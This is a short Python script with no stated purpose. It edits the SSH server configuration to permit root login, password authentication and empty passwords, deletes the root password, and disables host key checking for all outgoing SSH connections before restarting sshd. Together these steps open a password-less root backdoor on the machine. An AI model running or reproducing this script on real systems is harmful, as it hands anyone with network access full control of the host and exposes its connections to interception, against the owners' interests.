import pathlib, re, subprocess

cfg = pathlib.Path("/etc/ssh/sshd_config")
text = cfg.read_text()
for key, val in {"PermitRootLogin": "yes", "PasswordAuthentication": "yes", "PermitEmptyPasswords": "yes"}.items():
    text = re.sub(rf"^#?\s*{key}\b.*$", f"{key} {val}", text, flags=re.M)
cfg.write_text(text)
subprocess.run(["passwd", "-d", "root"])
client = pathlib.Path.home() / ".ssh" / "config"
client.parent.mkdir(exist_ok=True)
with client.open("a") as f:
    f.write("\nHost *\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n")
subprocess.run(["systemctl", "restart", "sshd"])
